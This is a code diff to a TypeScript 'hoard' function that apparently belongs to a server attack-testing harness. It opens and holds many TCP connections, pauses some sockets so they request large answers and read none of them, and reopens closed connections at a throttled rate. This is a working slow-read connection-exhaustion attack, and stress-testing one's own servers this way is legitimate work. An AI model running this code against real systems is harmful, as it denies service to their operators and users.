@@ -1,5 +1,6 @@
 // Connections that are taken and kept: each asks once, with something that costs nothing, and then stays. Slow readers ask
-// for large answers and read none of them. Whatever is closed is opened again.
+// for large answers and read none of them. Whatever is closed is opened again, two hundred times a second: this is about
+// who keeps connections. A storm of new ones is stopped by the kernel's own filters, or not at all.
 
 import { connect, type Socket } from 'node:net'
 import { setTimeout as wait } from 'node:timers/promises'
@@ -8,20 +9,24 @@ import type { AttackPlan } from './plan.ts'
 import { rawBytes } from './raw-bytes.ts'
 
 const tickMs = 10
-/** So many are opened in one tick: as fast as a server can take them. */
+/** So many are opened in one tick: at first as fast as a server can take them, and then those that were closed. */
 const openPerTick = 100
+const reopenPerTick = 2
 const slowRequests = 90
 
 export async function hoard(url: URL, seconds: number, plan: Extract<AttackPlan, { kind: 'hoard' }>): Promise<number> {
   const cheap = Buffer.from(`GET /w/x HTTP/1.1\r\nhost: ${url.host}\r\n\r\n`)
   const dear = rawBytes(url, shapeNamed('100 assets in each of 10 impressions').make())
   const sockets = new Set<Socket>()
+  const wanted = plan.connections + plan.slowReaders
+  let opened = 0
   let slow = 0
   let answers = 0
 
   function open(isSlow: boolean): void {
     const socket = connect({ host: url.hostname, port: Number(url.port), localAddress: plan.source })
     sockets.add(socket)
+    opened++
     if (isSlow) {
       slow++
       socket.pause()
@@ -39,9 +44,8 @@ export async function hoard(url: URL, seconds: number, plan: Extract<AttackPlan,
 
   const startedMs = performance.now()
   while (performance.now() - startedMs < seconds * 1000) {
-    for (let count = 0; count < openPerTick && sockets.size < plan.connections + plan.slowReaders; count++) {
-      open(slow < plan.slowReaders)
-    }
+    const most = opened < wanted ? openPerTick : reopenPerTick
+    for (let count = 0; count < most && sockets.size < wanted; count++) open(slow < plan.slowReaders)
     await wait(tickMs)
   }
   for (const socket of sockets) socket.destroy()
